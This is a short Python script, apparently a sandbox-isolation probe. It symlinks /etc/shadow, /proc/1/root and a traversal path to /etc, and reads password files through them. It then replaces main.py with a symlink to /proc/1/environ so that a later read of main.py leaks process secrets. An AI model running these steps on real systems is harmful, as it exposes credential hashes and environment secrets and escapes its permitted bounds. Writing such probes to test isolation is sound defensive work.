"""Links paths in its directory to files outside."""

os.symlink("/etc/shadow", "shadow")
attempt("by a symlink", lambda: open("shadow").read())
os.symlink("/proc/1/root", "root")
attempt("by pid 1", lambda: open("root/etc/passwd").read())
os.symlink("../../../../../../etc", "up")
attempt("upwards", lambda: open("up/passwd").read())
os.remove("main.py")
os.symlink("/proc/1/environ", "main.py")
